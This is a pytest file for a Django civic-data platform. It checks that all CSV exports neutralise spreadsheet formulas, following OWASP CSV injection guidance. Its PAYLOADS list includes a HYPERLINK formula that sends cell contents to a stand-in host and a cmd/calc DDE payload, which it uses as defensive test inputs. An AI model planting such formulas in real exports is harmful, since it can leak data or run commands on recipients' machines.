"""Every CSV the platform writes for people is formula-safe (OWASP CSV injection).

The inventory test finds every place in src/ that writes a CSV (``csv.writer``,
``csv.DictWriter``, ``csvsafe.writer``, ``DataFrame.to_csv``, a ``text/csv`` response) and fails
when one is not listed below, so a new export cannot skip the check. Each listed export is then
driven with formula payloads in every free-text field, and no cell may start like a formula.
"""

from __future__ import annotations

import ast
import csv
import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner
from django.test import Client
from django.urls import reverse

from changemaker.budgeting.tests.conftest import make_process  # noqa: F401 (fixture)
from changemaker.core import csvsafe
from changemaker.core.models import Council, Role, User
from changemaker.core.tests.factories import sign_in

SRC = Path(__file__).resolve().parents[1] / "src" / "changemaker"
HOST = {"HTTP_HOST": "exampleton.test"}
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]

#: (file, function) -> how it is kept safe. "tested": driven with payloads below.
WRITERS = {
    ("consultations/engine/polis_io.py", "_atomic_write"): "tested: export_polis passes "
    "csvsafe.cell texts; votes are numbers",
    ("insight/actions/uploads.py", "quarantine_csv"): "tested",
    ("insight/views/staff_data.py", "upload_quarantine"): "tested (serves quarantine_csv)",
    ("insight/views/staff_people.py", "export"): "tested (the subject access CSV)",
    ("insight/cli.py", "_write_results"): "tested: persons.csv and households.csv via csvsafe.cell",
    ("insight/engine/importers.py", "write_quarantine"): "tested: the CLI passes csvsafe.cell",
    ("insight/engine/importers.py", "write_field_problems"): "tested: the CLI passes csvsafe.cell",
    ("budgeting/views/staff.py", "_letters_csv"): "tested (the voting codes' mail-merge file)",
    ("core/csvsafe.py", "__init__"): "the safe writer itself",
    ("core/views/downloads.py", "csv_download"): "csvsafe.writer; every view's CSV download "
    "(the exports below are driven through it); core/tests/test_downloads.py",
    ("evidence/views/staff.py", "registry_export"): "tested (the Evaluation Registry CSV)",
    ("core/api.py", "listing"): "tested: every open-data list's ?format=csv (core.api)",
    ("core/views/staff.py", "audit_export"): "tested in core/tests/test_audit_log_page.py",
    ("core/commitment_csv.py", "write"): "csvsafe.writer; tested in "
    "listening/tests/test_commitment_csv.py (a =HYPERLINK title comes out quoted)",
    ("listening/views/staff_commitments.py", "commitments_export"): "serves "
    "core.commitment_csv.write (tested there)",
    # Input files for our own importers, never exports for people: neutralising them would
    # change the data the importers read back.
    ("insight/engine/synthetic/__init__.py", "write_service_csvs"): "synthetic test data for "
    "the linker",
    ("insight/demo.py", "_csv"): "the demo's synthetic upload files",
    ("insight/demo.py", "_gazetteer"): "the demo's generated gazetteer, read by our own importer",
    ("culture/demo.py", "chart_csv"): "the demo's org chart (our own unit names), read back by "
    "the culture engine's reader",
    ("evidence/adapter.py", "shared_outcome"): "the outcome table (ward codes, months and "
    "counts: our own values) read back by the evidence engine's reader, never a download",
    ("evidence/synthetic.py", "_csv"): "generated outcome tables (numbers) for the demo and "
    "tests, read back by the engine's reader",
    ("culture/engine/synthetic.py", "write_csv"): "generated surveys for tests and the bench",
    ("culture/engine/items.py", "items_csv"): "the built-in item bank (our own wording) as "
    "ITEMS.csv for `changemaker culture report`, read back by its reader",
    ("support/engine/csvio.py", "write_requests"): "matcher input files (tests and bench)",
    ("support/engine/csvio.py", "write_volunteers"): "matcher input files (tests and bench)",
}


def _writes_csv(node: ast.AST) -> bool:
    if isinstance(node, ast.Constant):
        return isinstance(node.value, str) and node.value.startswith("text/csv")
    if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)):
        return False
    if node.func.attr in {"DictWriter", "to_csv"}:
        return True
    target = node.func.value
    return (
        node.func.attr == "writer"
        and isinstance(target, ast.Name)
        and target.id
        in {
            "csv",
            "csvsafe",
        }
    )


def _writers() -> set[tuple[str, str]]:
    """(file, innermost named function) of every CSV write in src/."""
    found: set[tuple[str, str]] = set()

    def visit(node: ast.AST, where: str, name: str) -> None:
        if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef):
            name = node.name
        if _writes_csv(node):
            found.add((where, name))
        for child in ast.iter_child_nodes(node):
            visit(child, where, name)

    for path in SRC.rglob("*.py"):
        if "tests" not in path.parts and "migrations" not in path.parts:
            visit(ast.parse(path.read_text(encoding="utf-8")), str(path.relative_to(SRC)), "")
    return found


def test_every_csv_writer_is_accounted_for() -> None:
    missing = sorted(_writers() - set(WRITERS))
    assert missing == [], (
        "A new CSV writer: write it with changemaker.core.csvsafe and add it to WRITERS "
        f"with its test: {missing}"
    )


def _assert_safe(text: str, where: str) -> int:
    cells = 0
    for row in csv.reader(io.StringIO(text, newline="")):
        for value in row:
            cells += 1
            assert (
                not value
                or value[0] not in csvsafe.TRIGGERS
                or value.lstrip("-").replace(".", "").isdigit()
            ), f"{where}: {value!r} starts like a formula"
    return cells


def test_cell_and_restore() -> None:
    for text in [*PAYLOADS, "'=quoted", "''+x", "plain", "", "'", "-", "-3", "-0.5", "O'Neil"]:
        safe = csvsafe.cell(text)
        assert csvsafe.restore(safe) == text
        assert not safe or safe[0] not in csvsafe.TRIGGERS or text in {"-3", "-0.5"}
    assert csvsafe.cell(-3) == -3 and csvsafe.cell(None) == ""
    assert csvsafe.cell("-") == "'-"


@pytest.mark.django_db
def test_consultation_exports(council: Council, make_user: Callable[..., User]) -> None:
    from datetime import timedelta

    from django.utils import timezone

    from changemaker.consultations import actions, adapter

    officer = make_user(Role.ENGAGEMENT_OFFICER)
    now = timezone.now()
    c = actions.create_consultation(
        council,
        by=officer,
        slug="c",
        question="Q",
        background="",
        opens_at=now - timedelta(days=1),
        closes_at=now + timedelta(days=1),
        moderation="after",
        audience="anyone",
        seeds=PAYLOADS,
    )
    for who in (None, officer):
        body = adapter.export_polis(c, by=who)
        with zipfile.ZipFile(io.BytesIO(body)) as archive:
            text = archive.read("comments.csv").decode()
        assert _assert_safe(text, "comments.csv") > len(PAYLOADS)


@pytest.mark.django_db
def test_insight_quarantine_export(council: Council, make_user: Callable[..., User]) -> None:
    from changemaker.insight import adapter
    from changemaker.insight.tests.factories import CSV_HEADER, make_agreement, make_dataset

    officer = make_user(Role.DATA_OFFICER)
    dataset = make_dataset(council, "council-tax", make_agreement(council, "DSA-CT"))
    # no name at all: the only kind of row still quarantined (a bad field alone is kept)
    rows = "".join(f"CT{n},,,bad,,{p!r},{p!r}\n" for n, p in enumerate(PAYLOADS))
    upload = adapter.validate_upload(
        dataset, by=officer, name="f.csv", stream=io.BytesIO((CSV_HEADER + rows).encode())
    )
    assert upload.quarantined.count() == len(PAYLOADS)
    client = Client()
    sign_in(client, officer)
    response = client.get(reverse("insight:upload-quarantine", args=[upload.pk]), **HOST)
    assert response.status_code == 200
    assert _assert_safe(response.content.decode(), "rows-to-fix.csv") > len(PAYLOADS)


@pytest.mark.django_db
def test_insight_subject_access_export(council: Council, make_user: Callable[..., User]) -> None:
    from changemaker.insight.models import SourceRecord
    from changemaker.insight.tests.people_fixtures import make_world

    world = make_world(council)
    record = world.records["ct1"]
    SourceRecord.objects.filter(pk=record.pk).update(
        first_name=PAYLOADS[0], address_line=PAYLOADS[3], attributes={"arrears_amount": "-2+3"}
    )
    client = Client()
    sign_in(client, make_user(Role.PRACTITIONER))
    client.post(reverse("insight:purpose"), {"purpose": world.debt.pk}, **HOST)
    url = reverse("insight:person-export", args=["P00000001"])
    response = client.post(url, {"format": "csv"}, **HOST)
    assert response["Content-Type"].startswith("text/csv")
    body = response.content.decode()
    assert "HYPERLINK" in body and "SUM" in body
    _assert_safe(body, "subject access CSV")


def test_insight_cli_outputs(tmp_path: Path) -> None:
    from changemaker.insight.cli import cli

    data = tmp_path / "data"
    data.mkdir()
    header = "source_dataset,record_id,first_name,surname,date_of_birth,postcode,address_line,"
    header += "nino,email,phone\n"
    (data / "housing.csv").write_text(
        header + "housing,=1+1,Ann,Lee,1980-01-02,XM1 1AA,1 High St,,,\n"
        "housing,@2,Bob,Ray,02/03/1990,,,,,\n"
        'housing,3,,,1990-02-30,,"=HYPERLINK(""x"")",,,\n'
    )
    (data / "schools.csv").write_text(
        header + "schools,-1+1,ann,LEE,02/01/1980,xm11aa,1 high street,,,\n"
    )
    out = tmp_path / "out"
    runner = CliRunner()
    result = runner.invoke(cli, ["link", str(data), "--out", str(out)])
    assert result.exit_code == 0, result.output
    for name in ("persons.csv", "households.csv", "quarantine.csv"):
        _assert_safe((out / name).read_text(), name)
    assert "HYPERLINK" in (out / "quarantine.csv").read_text()
    first = pd.read_csv(out / "persons.csv", dtype=str)
    assert "'=1+1" in set(first["record_id"])
    # a re-run reads the neutralised ids back as they were, so every id is kept
    again = runner.invoke(cli, ["link", str(data), "--out", str(out), "--quiet"])
    assert again.exit_code == 0, again.output
    pd.testing.assert_frame_equal(pd.read_csv(out / "persons.csv", dtype=str), first)


def test_data_quality_report_with_the_cli_cell(tmp_path: Path) -> None:
    from changemaker.insight.engine.importers import (
        FieldProblem,
        ImportResult,
        write_field_problems,
    )

    results = [
        ImportResult(
            source=payload,  # a file name is chosen by whoever made the file
            records=pd.DataFrame(),
            quarantine=(),
            field_problems=(FieldProblem(line=2, field=payload, reason="not a date"),),
        )
        for payload in PAYLOADS
    ]
    out = tmp_path / "data_quality.csv"
    assert write_field_problems(results, out, cell=csvsafe.cell) == len(PAYLOADS)
    assert _assert_safe(out.read_text(), "data_quality.csv") > 2 * len(PAYLOADS)
    cli = (Path(__file__).resolve().parents[1] / "src/changemaker/insight/cli.py").read_text()
    assert "write_field_problems(results, p, cell=csvsafe.cell)" in cli


@pytest.mark.django_db
def test_voting_code_letters_csv(make_process: Callable[..., object]) -> None:  # noqa: F811
    from changemaker.budgeting.views import staff as views

    process = make_process()
    for payload in PAYLOADS:
        process.title = payload  # type: ignore[attr-defined]
        ward = process.council.wards.first()  # type: ignore[attr-defined]
        response = views._letters_csv(process, ["ABCD-EFGH"], payload, ward, payload)  # type: ignore[arg-type]
        assert _assert_safe(response.content.decode(), "codes.csv") >= 12


@pytest.mark.django_db
def test_evaluation_registry_export(council: Council, make_user: Callable[..., User]) -> None:
    from changemaker.evidence.models import PLAN_FIELDS, Pilot

    texts = [
        f.name
        for f in Pilot._meta.get_fields()
        if f.name in PLAN_FIELDS and f.get_internal_type() in {"CharField", "TextField"}
    ]
    for n, payload in enumerate(PAYLOADS):
        values = {name: payload for name in texts}
        values["design"] = "did"
        Pilot.objects.create(council=council, slug=f"p{n}", status="published", **values)
    client = Client()
    sign_in(client, make_user(Role.EVIDENCE_LEAD))
    response = client.get(reverse("evidence:staff-registry"), **HOST)
    assert response["Content-Type"].startswith("text/csv")
    body = response.content.decode()
    assert "HYPERLINK" in body and "SUM(1,1)" in body
    assert _assert_safe(body, "evaluation-registry.csv") > len(texts) * len(PAYLOADS)


def test_open_data_api_csv(council: Council, make_user: Callable[..., User]) -> None:
    from datetime import timedelta

    from django.utils import timezone

    from changemaker.consultations import actions

    now = timezone.now()
    c = actions.create_consultation(
        council,
        by=make_user(Role.ENGAGEMENT_OFFICER),
        slug="c",
        question=PAYLOADS[0],
        background=PAYLOADS[1],
        opens_at=now - timedelta(days=1),
        closes_at=now + timedelta(days=1),
        moderation="after",
        audience="anyone",
        seeds=PAYLOADS,
    )
    for n, payload in enumerate(PAYLOADS):
        council.wards.create(name=payload, code=f"E0509{n:04d}")
    for url in (
        "/api/consultations/",
        f"/api/consultations/{c.slug}/statements",
        "/api/council/wards",
    ):
        response = Client().get(url + "?format=csv", **HOST)
        assert response["Content-Type"].startswith("text/csv")
        assert _assert_safe(response.content.decode(), url) >= len(PAYLOADS)
